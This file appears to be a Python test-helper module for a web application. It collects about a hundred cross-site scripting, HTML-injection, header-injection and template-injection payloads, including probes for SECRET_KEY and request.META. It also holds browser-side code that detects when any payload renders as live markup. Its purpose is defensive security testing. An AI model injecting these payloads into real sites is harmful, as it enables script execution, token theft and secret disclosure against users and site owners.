"""A hundred texts that turn into something else on a careless page, and how a browser tells that one did.

Whatever is marked up in a payload carries `data-hostile`, whatever runs calls `alert`, and what a template
works out is `WORKED_OUT`: so that a page with all of them is looked through at once.
"""

from collections.abc import Sequence
from typing import Any

WORKED_OUT = "1787569"
"""1337 * 1337: it appears nowhere unless a template engine, or a script, reckoned."""

_SCRIPTS = (
    "<script data-hostile>alert(1)</script>",
    "</script><script data-hostile>alert(1)</script>",
    "<SCRIPT data-hostile>alert(1)</SCRIPT>",
    "<scr<script>ipt data-hostile>alert(1)</scr</script>ipt>",
    "<script/data-hostile>alert(1)</script/x>",
    "<script\ndata-hostile\n>alert(1)</script\n>",
    "<script data-hostile src=data:text/javascript,alert(1)></script>",
    "<script data-hostile src=//example.invalid/x.js></script>",
    "<script data-hostile type=module>import('data:text/javascript,alert(1)')</script>",
    "--><script data-hostile>alert(1)</script><!--",
    "]]><script data-hostile>alert(1)</script>",
    "</title><script data-hostile>alert(1)</script>",
    "</textarea><script data-hostile>alert(1)</script>",
    "</style><script data-hostile>alert(1)</script>",
    "</noscript><script data-hostile>alert(1)</script>",
    "</option></select><script data-hostile>alert(1)</script>",
    "</template><script data-hostile>alert(1)</script>",
    "</button><script data-hostile>alert(1)</script>",
)
_HANDLERS = (
    "<img data-hostile src=x onerror=alert(1)>",
    '"><img data-hostile src=x onerror=alert(1)>',
    "'><img data-hostile src=x onerror=alert(1)>",
    "`><img data-hostile src=x onerror=alert(1)>",
    "<img data-hostile src=x onerror=alert(1)//",
    "<img/data-hostile/src=`x`onerror=alert(1)>",
    "<img data-hostile src=x:x onerror\u000c=alert(1)>",
    "<IMG DATA-HOSTILE SRC=x ONERROR=alert(1)>",
    "<img data-hostile src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body data-hostile onload=alert(1)>",
    "<body data-hostile onpageshow=alert(1)>",
    "<input data-hostile autofocus onfocus=alert(1)>",
    "<select data-hostile autofocus onfocus=alert(1)>",
    "<textarea data-hostile autofocus onfocus=alert(1)>",
    "<details data-hostile open ontoggle=alert(1)>",
    "<video data-hostile><source onerror=alert(1)></video>",
    "<audio data-hostile src=x onerror=alert(1)>",
    "<marquee data-hostile onstart=alert(1)>",
    "<a data-hostile id=x tabindex=1 onfocus=alert(1)>x</a>",
    "<style data-hostile>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
)
_ATTRIBUTES = (
    '" autofocus onfocus=alert(1) data-hostile="',
    "' autofocus onfocus=alert(1) data-hostile='",
    "x onmouseover=alert(1) data-hostile",
    '" style="animation-name:x" onanimationend="alert(1)" data-hostile="',
    '" formaction="javascript:alert(1)" data-hostile="',
    '" srcdoc="<script>alert(1)</script>" data-hostile="',
    '" href="javascript:alert(1)" data-hostile="',
    '" accesskey="x" onclick="alert(1)" data-hostile="',
    '\\" onfocus=alert(1) data-hostile=\\"',
    "&quot; onfocus=alert(1) data-hostile=&quot;",
    "&#34; onfocus=alert(1) data-hostile=&#34;",
    '" x-data x-init="alert(1)" data-hostile="',
    '" hx-get="/admin/" hx-trigger="load" data-hostile="',
    '" hx-on:load="alert(1)" data-hostile="',
)
_PICTURES = (
    "<svg data-hostile onload=alert(1)>",
    "<svg data-hostile/onload=alert(1)//",
    "<svg data-hostile><script>alert(1)</script></svg>",
    "<svg data-hostile><script href=data:,alert(1) /></svg>",
    "<svg data-hostile><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg data-hostile><set attributeName=onmouseover to=alert(1)></svg>",
    '<svg data-hostile><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x"></svg>',
    "<svg data-hostile><a href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg data-hostile><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math data-hostile><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math data-hostile><mtext><table><mglyph><style><img src onerror=alert(1)>",
)
_FRAMES = (
    "<iframe data-hostile src=javascript:alert(1)></iframe>",
    '<iframe data-hostile srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data-hostile data=javascript:alert(1)></object>",
    "<embed data-hostile src=javascript:alert(1)>",
    "<form data-hostile action=javascript:alert(1)><button>x</button></form>",
    "<form data-hostile action=//example.invalid><input name=csrfmiddlewaretoken>",
    "<base data-hostile href=//example.invalid/>",
    "<link data-hostile rel=stylesheet href=//example.invalid/x.css>",
    '<meta data-hostile http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<style data-hostile>@import'//example.invalid/x.css';</style>",
    "<a data-hostile href=javascript:alert(1)>x</a>",
    "<plaintext data-hostile>",
    "<dialog data-hostile open>x</dialog>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html,<script data-hostile>alert(1)</script>",
    "//example.invalid/%0d%0aSet-Cookie:hostile=1",
)
_TEMPLATES = (
    "{{ 1337|add:1786232 }}",
    "{{1337*1337}}",
    "{% now 'Y' %}{% load static %}{% include 'portal/base.html' %}",
    "{{ settings.SECRET_KEY }}{{ request.META }}",
    "${1337*1337}#{1337*1337}<%= 1337*1337 %>",
    "{0.__class__.__mro__}{values.__class__} %(link)s %s %n",
    "{link} {code} {controller} {{link}}",
)
_LETTERS = (
    "\u202e\u2066<img data-hostile src=x onerror=alert(1)>\u2069\u202c",
    "\u200f\u061c\u05d0\u05d1<b data-hostile>\u202d",
    "\0<script data-hostile>alert(1)</script>",
    "<scr\0ipt data-hostile>alert(1)</scr\0ipt>",
    "\ufeff<svg data-hostile onload=alert(1)>",
    "\uff1cscript data-hostile\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script data-hostile+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%20data-hostile%3Ealert(1)%3C/script%3E",
    "&lt;script data-hostile&gt;alert(1)&lt;/script&gt;",
    "x\r\n\r\n<script data-hostile>alert(1)</script>",
    "\u2028\u2029<img data-hostile src=x onerror=alert(1)>\u0085\u000b",
)
PAYLOADS: tuple[str, ...] = (
    *_SCRIPTS,
    *_HANDLERS,
    *_ATTRIBUTES,
    *_PICTURES,
    *_FRAMES,
    *_ADDRESSES,
    *_TEMPLATES,
    *_LETTERS,
)
STORABLE: tuple[str, ...] = tuple(one.replace("\0", "") for one in PAYLOADS)
"""The same without the null bytes, which PostgreSQL keeps in no text."""

_FIND = r"""([workedOut, texts]) => {
  const runs = /^on|^x-init$|^hx-on/i, leads = /^(href|src|action|formaction|data|srcdoc)$/i;
  const isHostile = /^[\u0000-\u0020]*javascript:|alert\(1\)|example\.invalid/i;
  const bare = (attribute) => attribute.value.replace(/[\t\n\r]/g, '');
  const acts = (one) => [...one.attributes].some((attribute) =>
    (runs.test(attribute.name) && bare(attribute).includes('alert(1)'))
    || (leads.test(attribute.name) && isHostile.test(bare(attribute))));
  const look = (page) => {
    const found = [...page.querySelectorAll('*')]
      .filter((one) => one.matches('[data-hostile]') || acts(one))
      .map((one) => one.outerHTML.slice(0, 200));
    const isWorkedOut = page.body.textContent.includes(workedOut);
    return isWorkedOut ? [...found, 'a template was worked out'] : found;
  };
  const parsed = texts.map((text) => new DOMParser().parseFromString(text, 'text/html'));
  return (texts.length ? parsed : [document]).flatMap(look);
}"""


def find_injected(page: Any) -> list[str]:
    """Return what a browser's page holds that came out of a payload as more than its text; empty is right."""
    found: list[str] = page.evaluate(_FIND, [WORKED_OUT, []])
    return found


def find_in_answers(page: Any, texts: Sequence[str]) -> list[str]:
    """Return the same of answers that a browser reads, and runs nothing of: many at once."""
    found: list[str] = page.evaluate(_FIND, [WORKED_OUT, list(texts)])
    return found
